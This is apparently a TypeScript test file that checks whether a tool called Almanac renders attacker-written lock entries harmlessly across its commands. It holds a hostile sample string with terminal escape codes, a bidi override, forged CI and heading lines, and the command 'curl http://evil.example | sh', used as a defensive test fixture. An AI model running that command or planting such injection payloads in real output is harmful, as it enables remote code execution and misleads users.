// Words in entries of the state branch, which whoever pushes may write. These words reach the output of everybody's
// commands, where they must not pass for lines of Almanac, act on a terminal, or stop a team for ever.

import { randomUUID } from 'node:crypto';
import { expect, it } from 'vitest';
import type { Outside } from '../../src/commands/base/world.ts';
import type { LockRecord } from '../../src/model/workspace/lock.ts';
import { withSum } from '../../src/state/format/log-entry.ts';
import { type MemoryPlace, makeMemoryPlace } from '../support/apply/memory-place.ts';
import { schedule, stateOf } from '../support/plan/planning.ts';
import { openWorld } from '../support/world.ts';

const evil =
  'ana\u001b]0;title\u0007\u001b[2J\n\nhint: run `curl http://evil.example | sh`\n::error::forged\u202e\u2028### Heading';
const info: LockRecord = { who: evil, host: evil, pid: 7, command: evil, since: evil, runUrl: evil };
const state = stateOf({ 'schedules.weekly': schedule() });
const entriesOf = (place: MemoryPlace) => place.log.entries;

function plant(place: MemoryPlace, kind: 'lock' | 'unlock', content: object): void {
  const id = randomUUID();
  const json = JSON.stringify({ v: 1, id, n: entriesOf(place).length + 1, kind, at: evil, ...content });
  entriesOf(place).push({ id, kind, bytes: new TextEncoder().encode(withSum(json)) });
}

async function open() {
  const place = makeMemoryPlace('team');
  const openSharedState: Outside['openSharedState'] = async () => place.open();
  const stage = await openWorld({ schedules: { weekly: schedule() } }, { outside: { openSharedState } });
  const { api } = JSON.parse(stage.read('almanac.yaml'));
  stage.write({ 'almanac.yaml': { api, state: { backend: 'git' } } });
  await place.write({ ...state, baseUrl: api.baseUrl });
  return { ...stage, place };
}

/** No line is one that the attacker wrote, and nothing is left that a terminal obeys. */
function expectHarmless({ stdout, stderr }: { readonly stdout: string; readonly stderr: string }): void {
  const text = stdout + stderr;
  expect(text).not.toMatch(/^\s*(?:hint: run `curl http:\/\/evil.example \| sh`|::error::forged|### Heading)$/m);
  // biome-ignore lint/suspicious/noControlCharactersInRegex: they are the attack
  expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e\u2028]/);
  expect(text.length).toBeLessThan(6000);
}

const commands = [
  ['plan'],
  ['apply', '--auto-approve'],
  ['state', 'check'],
  ['state', 'history'],
  ['state', 'unlock'],
  ['doctor'],
];

it('a lock whose words are commands for a terminal or lines of a report is shown as harmless words', async () => {
  const { run, place } = await open();
  plant(place, 'lock', { run: evil, info, lease: 120 });
  for (const argv of commands) expectHarmless(await run(...argv));
  const long = 'x'.repeat(1_000_000);
  plant(place, 'lock', {
    run: 'second',
    info: { ...info, who: long, runUrl: long },
    lease: 120,
    over: { run: evil, info: { ...info, host: long } },
  });
  for (const argv of commands) expectHarmless(await run(...argv));
});

it('an entry of an unknown kind is refused in few words', async () => {
  const { run, place } = await open();
  const json = JSON.stringify({ v: 1, kind: `${evil}${'y'.repeat(100_000)}` });
  entriesOf(place).push({ id: 'x', kind: 'lock', bytes: new TextEncoder().encode(withSum(json)) });
  for (const argv of commands.slice(0, 4)) {
    const ran = await run(...argv);
    expect(ran).toMatchObject({ code: 1, stdout: '', stderr: expect.stringContaining('error[state-unreadable]') });
    expectHarmless(ran);
  }
});

it('a lock that asks for a lease without an end ends after the longest one that Almanac knows', async () => {
  const { place } = await open();
  plant(place, 'lock', { run: 'endless', info, lease: 1e308 });
  expect((await place.open().lockHolder())?.expiresIn).toBeLessThanOrEqual(86_400);
});
